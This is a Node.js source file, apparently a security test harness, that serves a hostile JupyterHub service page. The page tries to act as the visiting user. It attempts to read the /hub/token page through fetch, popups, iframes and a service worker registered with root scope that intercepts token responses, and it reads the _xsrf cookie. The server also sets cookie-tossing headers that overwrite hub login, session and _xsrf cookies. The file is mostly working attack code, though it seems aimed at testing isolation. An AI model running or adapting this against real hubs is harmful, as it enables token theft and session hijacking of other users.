// A server whose page tries to act as whoever opens it. The page says what it got, in the title when it is done.
import { createServer } from 'node:http';

const url = new URL(process.env.JUPYTERHUB_SERVICE_URL);
const prefix = process.env.JUPYTERHUB_SERVICE_PREFIX;

const worker = `
  self.addEventListener('install', () => self.skipWaiting());
  self.addEventListener('activate', event => event.waitUntil(clients.claim()));
  self.addEventListener('fetch', event => {
    if (!event.request.url.includes('/hub/token')) return;
    event.respondWith(fetch(event.request).then(async answer => {
      const text = await answer.clone().text();
      for (const client of await self.clients.matchAll()) client.postMessage(answer.status + ' ' + text);
      return answer;
    }));
  });`;

async function attack(prefix) {
  const got = {};
  const attempt = async (name, act) => {
    try { got[name] = await act(); } catch (error) { got[name] = 'refused: ' + error.name; }
  };
  const pause = milliseconds => new Promise(resolve => setTimeout(resolve, milliseconds));
  const has = text => (text.includes('data-form="token"') ? 'read' : 'not read');
  await attempt('fetch', async () => has(await (await fetch('/hub/token', { mode: 'no-cors' })).text()));
  await attempt('prefetch', async () => has(await (await fetch('/hub/token', { mode: 'no-cors', cache: 'force-cache' })).text()));
  await attempt('window', async () => {
    const opened = window.open('/hub/token');
    for (let i = 0; i < 50; i++) {
      await pause(100);
      if (has(opened.document.documentElement.outerHTML) === 'read') return 'read';
    }
    return 'not read';
  });
  await attempt('frame', async () => {
    const frame = document.createElement('iframe');
    frame.src = '/hub/token';
    await new Promise(resolve => { frame.onload = resolve; document.body.append(frame); });
    return has(frame.contentDocument?.documentElement.outerHTML ?? '');
  });
  await attempt('worker of all', async () => (await navigator.serviceWorker.register(prefix + 'worker.js', { scope: '/' })).scope);
  await attempt('worker of its own', async () => new URL((await navigator.serviceWorker.register(prefix + 'worker.js', { scope: prefix })).scope).pathname);
  await attempt('picture through a worker', async () => {
    await navigator.serviceWorker.ready;
    for (let i = 0; i < 50 && !navigator.serviceWorker.controller; i++) await pause(100);
    const told = new Promise(resolve => navigator.serviceWorker.addEventListener('message', event => resolve(event.data)));
    const picture = document.createElement('img');
    picture.src = '/hub/token';
    document.body.append(picture);
    return has(await Promise.race([told, pause(5000).then(() => 'nothing')]));
  });
  await attempt('cookie', async () => {
    const here = location.href;
    history.replaceState(null, '', '/hub/home');
    const cookies = document.cookie;
    history.replaceState(null, '', here);
    return cookies.includes('_xsrf=') ? 'read' : 'not read';
  });
  document.getElementById('got').textContent = JSON.stringify(got);
  document.title = 'done';
}

createServer((request, response) => {
  response.setHeader('X-JupyterHub-Version', '5.5.1');
  if (request.url === prefix + 'page') {
    response.setHeader('Content-Type', 'text/html');
    response.end(`<!doctype html><title>trying</title><body><pre id="got"></pre><script>${attack}\nattack(${JSON.stringify(prefix)})</script>`);
  } else if (request.url === prefix + 'worker.js') {
    response.setHeader('Content-Type', 'text/javascript');
    response.setHeader('Service-Worker-Allowed', '/');
    response.end(worker);
  } else if (request.url === prefix + 'cookies') {
    response.setHeader('Set-Cookie', ['jupyterhub-hub-login=tossed; Path=/hub/', 'jupyterhub-session-id=tossed; Path=/', '_xsrf=tossed; path=/hub/', `_xsrf=twice; Path=${prefix}; Path =/`, `_xsrf=own; Path=${prefix}`, 'other=own; Path=/']);
    response.end('cookies');
  } else {
    response.end('{"version": "hostile"}');
  }
}).listen(Number(url.port), url.hostname);
